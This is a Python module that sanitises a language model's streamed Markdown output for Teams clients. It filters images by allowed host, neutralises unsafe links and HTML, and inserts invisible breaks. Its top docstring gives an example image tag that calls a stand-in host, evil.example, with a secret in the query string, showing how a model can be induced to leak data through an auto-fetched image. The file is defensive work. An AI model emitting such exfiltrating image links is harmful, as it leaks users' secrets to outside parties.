"""Makes a model's Markdown safe for Teams clients, which fetch images without asking and obey some HTML.

A model can be made to write `![](https://evil.example/?q=<a secret>)`: showing that is enough to leak the secret. So an
image stays only if its host is allowed, a link only if its scheme is harmless, and HTML becomes text, as mentions do.

Renderers differ, and nobody knows which one reads the text. Two rules keep it safe for all of them:

1. What must not be is broken up where it begins, and its rest is read on as any other text. So it does not matter what
   else a renderer might see in the rest.
2. Code stays as it is if every renderer sees code. Where some may see code and others text, only the invisible `BREAK`
   is put in: it breaks up what the others must not find, and the code looks the same.
"""

import re
from collections.abc import Collection
from dataclasses import dataclass

import regex

from . import links
from .blocks import LinesAbove, LineStart, Paragraph, may_be_header, read_line_start
from .tokenizer import BREAK, CODE_SPAN, ESCAPE, LONGEST_HELD, LONGEST_SPAN, Fence, Scanner

# Text without a character that could begin something.
_PLAIN = re.compile(r"(?:[^\\`$~:<!\]\r\n]|!(?=[^\[])|\](?=[^(:])|<(?=[\s<]))++")
_LINE_END = regex.compile(r"\r\n?+|\n")
_TO_LINE_END = re.compile(r"[^\r\n]++")
_ESCAPE = regex.compile(ESCAPE)

# Maths and struck text, which some renderers read before inline code.
_PAIRS = ("$", "~~")
_STRIKE = regex.compile("~~")
_BACKTICKS = re.compile(r"`++")
_CODE_SPAN = regex.compile(rf"{CODE_SPAN}[^`]")
_CELL_END = re.compile(r"(?:(?<!\\)|\\\\)\|")
# Marks that may stand in code, and not in text.
_LIVE = re.compile(r"<|!\[|\][(:]|(?:ftp|xmpp):", re.IGNORECASE)

# Schemes that some renderers link without any mark.
_LINKED_SCHEME = re.compile(r"(?:ftp|xmpp)\Z", re.IGNORECASE)
_COLON_IN_WORD = regex.compile(r":\S")
# Some renderers read bare URLs and addresses before code and escapes. A URL goes on to the next space or `<`.
_BARE_URL = re.compile(r"(?:://|www\.)[^ \t\r\n<]*+\Z", re.IGNORECASE)
_LOCAL_PART = r"[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]"
_END_OF_LOCAL_PART = re.compile(rf"{_LOCAL_PART}\Z")
_REST_OF_LOCAL_PART = regex.compile(rf"{_LOCAL_PART}++@")

_CUT_OFF = regex.compile(r"\A(?:\]\(|!\[).*+", regex.DOTALL)

_ROW_BREAK = regex.compile(r"<br ?/?>")
# A tag, a comment and the like, or a link to any scheme or address. A name of one letter may be maths: `a<b`.
_TAG = regex.compile(
    r"<(?:[!?]|/?+[A-Za-z](?:>|[\s/]++[A-Za-z_:>])|/?+[A-Za-z][A-Za-z0-9-]++[\s/>]"
    r"|[A-Za-z][A-Za-z0-9+.-]++:|[^\s<>@]++@[^\s<>]++>)"
)


@dataclass
class _CurrentLine:
    """The current line, as far as it is read."""

    is_begun: bool = False
    has_bar: bool = False
    """True with a `|`: the line may be a row of a table."""
    has_split_code: bool = False
    """True with a `|` in inline code: some renderers see two cells there if the line is a row."""
    is_indented: bool = False
    """True if the line may be indented code."""
    may_begin_html: bool = False
    """True if some renderers see a tag in the next `<`, whatever its name."""


class SafeMarkdown:
    """Makes a text safe that comes in chunks: call `feed` for each chunk, then `close`.

    The results together are the safe text; they are the same however the text is cut into chunks.
    """

    def __init__(
        self, allowed_image_hosts: Collection[str] = (), removed_image: str = f"[picture removed: {BREAK}]"
    ) -> None:
        """`removed_image` takes the place of an image that is removed, with its description in place of the `BREAK`."""
        self._before_description, self._after_description = removed_image.split(BREAK)
        self._image_hosts = {host.lower() for host in allowed_image_hosts}
        self._definitions: dict[str, str] = {}  # targets by label
        self._input = Scanner()
        self._above = LinesAbove()
        self._paragraph = Paragraph()
        self._line = _CurrentLine()
        self._fence: Fence | None = None  # of the current code block
        self._last_output = ""  # its last few characters
        self._in_url = False  # True if the output ends within a bare URL

    def feed(self, chunk: str) -> str:
        """Return the further text that is safe to show."""
        # The scanner only ever holds a short text, so that a long one takes linear time.
        return "".join(self._advance(chunk[at : at + LONGEST_HELD]) for at in range(0, len(chunk), LONGEST_HELD))

    def close(self, *, is_cut_off: bool = False) -> str:
        """Return the rest of the safe text, which was held back until now.

        If the text is cut off, an image, or the target of a link, that lacks its end is left out.
        """
        if self._input.is_complete:
            return ""
        if is_cut_off:
            self._input.text = _CUT_OFF.sub("", self._input.text)
        self._input.is_complete = True
        return self._advance("\n")[:-1]  # a line end decides all that the end of the text does

    def _advance(self, chunk: str) -> str:
        output: list[str] = []
        for piece in self._input.pieces(chunk, self._next_piece):
            self._note_output(piece)
            output.append(piece)
        return "".join(output)

    def _note_output(self, piece: str) -> None:
        output = self._last_output + piece
        self._in_url = bool(_BARE_URL.search(f"://{output}" if self._in_url else output))
        self._last_output = output[-4:]

    def _next_piece(self) -> str:
        """Take the next piece of the text, and return it, made safe. If it is undecided, nothing has changed."""
        if self._fence:
            return self._code_block(self._fence)
        if not self._line.is_begun:
            return self._line_start()
        text = self._input.text
        if plain := _PLAIN.match(text):
            self._line.has_bar |= "|" in plain[0]
            return self._input.take(plain.end())
        match text[0]:
            case "\\":
                return self._backslash()
            case "`":
                return self._backticks()
            case "$":
                return self._pair("$")
            case "~":
                return self._pair("~~") if self._input.match(_STRIKE) else self._input.take(1)
            case ":":
                return self._colon()
            case "<":
                return self._angle_bracket()
            case "!":
                return self._image()
            case "]":
                return self._link_target()
            case _:
                return self._line_end()

    # Lines

    def _line_end(self) -> str:
        end = self._input.match(_LINE_END)
        self._line = _CurrentLine()
        self._above.line_end = self._input.take(end.end() if end else 1)
        return self._above.line_end

    def _line_start(self) -> str:
        start = read_line_start(self._input, self._above, self._paragraph)
        if start.blank:
            self._paragraph = self._paragraph.below_blank(start.blank[0], self._above)
            self._above.are_blank = True
            return self._input.take(start.blank.end())
        gap = self._above.line_end if start.needs_gap else ""
        self._above.in_container, self._above.item, self._above.have_text = start.in_container, start.item, True
        if start.opener:
            self._fence = Fence.opened_by(start.opener, in_container=start.in_container)
            self._paragraph = Paragraph()
            return gap + self._input.take(start.opener.end() - 1) + self._line_end()
        if start.code:
            return self._input.take(start.code.end() - 1) + self._line_end()
        self._above.are_blank = False
        self._line.is_begun, self._line.is_indented = True, start.is_indented
        self._paragraph.may_define |= start.may_define
        self._paragraph.in_table |= start.is_delimiter_row
        return self._doubtful_line_start(start)

    def _doubtful_line_start(self, start: LineStart) -> str:
        """Return what the line begins with, broken up where a renderer may see a definition, a title or a block."""
        if start.definition and not self._may_be_code:
            label, target = start.definition[1], start.definition[2]
            if not links.is_harmless(target):
                label_end, end = start.definition.end(1) + 1, start.definition.end() - 1
                return self._input.take(label_end) + self._input.replace(end - label_end, BREAK)
            self._definitions.setdefault(links.normalize_label(label), target)
        if start.title:
            return self._input.take(start.title.end() - 1) + BREAK
        if not start.marks:
            return ""
        if start.marks[2]:
            self._line.may_begin_html = True
            return self._input.take(start.marks.end(1))
        return self._input.take(start.marks.end() if start.marks.partial else start.marks.end(1)) + BREAK

    def _code_block(self, fence: Fence) -> str:
        """Return code as it is. The block ends where it may end for any renderer."""
        if self._line.is_begun:
            code = _TO_LINE_END.match(self._input.text)
            return self._input.take(code.end()) if code else self._line_end()
        closer = self._input.match(fence.closer, or_overlong=True)
        if closer and fence.is_code(closer):
            self._line.is_begun = True
            return self._input.take(closer.end(1)) + BREAK
        if closer and not closer.partial:
            self._fence, self._line.is_begun, self._above.are_blank = None, True, False
            return self._input.replace(closer.end() - 1, fence.closing)
        if closer or not self._input.match(fence.line):
            self._fence, self._above.are_blank = None, False
            return f"{fence.closing}\n"
        self._line.is_begun = True
        return ""

    # Inline code, and what some renderers read before it

    @property
    def _may_be_code(self) -> bool:
        return self._paragraph.in_doubt or self._line.is_indented

    def _backslash(self) -> str:
        if self._in_url:
            self._paragraph.in_doubt = True
            return self._input.take(1)
        # Some renderers see maths in an escaped `$`.
        is_escape = self._input.match(_ESCAPE) and self._input.text[1] != "$"
        return self._input.take(2 if is_escape else 1)

    def _pair(self, mark: str) -> str:
        self._paragraph.in_doubt |= self._paragraph.pairs.setdefault(mark, False)
        return self._input.take(len(mark))

    def _backticks(self) -> str:
        paragraph = self._paragraph
        in_doubt = paragraph.in_doubt or self._in_url or self._is_in_address()
        code = None if in_doubt else self._input.match(_CODE_SPAN)
        if code and self._is_code(code):
            self._line.has_split_code |= bool(_CELL_END.search(code["code"]))
            paragraph.pairs = {mark: True for mark in _PAIRS if mark in code["code"] or mark in paragraph.pairs}
            return self._input.take(code.end() - 1)
        paragraph.in_doubt = True
        run = _BACKTICKS.match(self._input.text)
        return self._input.take(run.end() if run else 1)

    def _is_in_address(self) -> bool:
        may_be_address = _END_OF_LOCAL_PART.search(self._last_output)
        return bool(may_be_address and self._input.match(_REST_OF_LOCAL_PART, or_overlong=True))

    def _is_code(self, span: regex.Match[str]) -> bool:
        """True if every renderer sees inline code, and sees all of it."""
        paragraph, code = self._paragraph, span["code"]
        if span.end() - 1 > LONGEST_SPAN:
            return False
        if (paragraph.may_define and "]:" in code) or any(mark in code for mark in paragraph.pairs):
            return False
        if not (self._line.has_split_code or _CELL_END.search(code)):
            return True
        return not paragraph.in_table and not (_LIVE.search(code) and may_be_header(self._input, span.end() - 1))

    # HTML, links and images

    def _angle_bracket(self) -> str:
        kept = self._input.match(links.AUTOLINK) or (self._input.match(_ROW_BREAK) if self._line.has_bar else None)
        if not kept and not self._line.may_begin_html and not self._input.match(_TAG, or_overlong=True):
            return self._input.take(1)
        self._line.may_begin_html = False
        if kept:
            return self._input.take(kept.end())
        # An entity is literal in code, and part of the URL in a URL.
        return self._input.replace(1, f"<{BREAK}" if self._may_be_code or self._in_url else "&lt;")

    def _colon(self) -> str:
        is_linked = _LINKED_SCHEME.search(self._last_output) and self._input.match(_COLON_IN_WORD)
        return self._input.take(1) + (BREAK if is_linked else "")

    def _link_target(self) -> str:
        link = self._input.match(links.LINK_TARGET)
        if link and links.is_harmless(link[1]):
            return self._input.take(2)
        if not link and self._input.text[1] == ":" and self._is_harmless_definition():
            self._paragraph.has_definition = self._paragraph.may_define
            return self._input.take(2)
        return self._input.replace(link.end() if link and not self._may_be_code else 1, f"]{BREAK}")

    def _is_harmless_definition(self) -> bool:
        defined = self._input.match(links.DEFINITION_TARGET, or_overlong=True)
        is_open = self._paragraph.may_define and self._input.match(links.OPEN_TITLE, or_overlong=True)
        if is_open or self._paragraph.in_doubt:
            return False
        return not defined or (not defined.partial and links.is_harmless(defined[1]))

    def _image(self) -> str:
        image = self._input.match(links.IMAGE)
        if not image:
            return self._input.take(1) + BREAK
        alt = image[1]
        if inline := self._input.match(links.INLINE_IMAGE):
            url, image, target = inline[2], inline, self._input.text[inline.end(1) + 1 : inline.end()]
        else:
            reference = self._input.match(links.REFERENCE_IMAGE)
            label = links.normalize_label((reference and reference[2]) or alt)
            url = None if self._may_be_code else self._definitions.get(label)
            image, target = reference or image, f"({url})"
        if url is None:
            return self._input.take(1) + BREAK
        is_short = len(alt) + len(target) < LONGEST_SPAN
        if is_short and links.is_plain_image(alt, target) and links.is_on_host(url, self._image_hosts):
            return self._input.replace(image.end(), f"![{alt}]{target}")
        if self._may_be_code:
            return self._input.take(1) + BREAK
        before, after = (self._before_description, self._after_description) if alt.strip() else ("", "")
        self._input.text = f"{alt}{after}{BREAK}{self._input.text[image.end() :]}"
        return f"{BREAK}{before}"
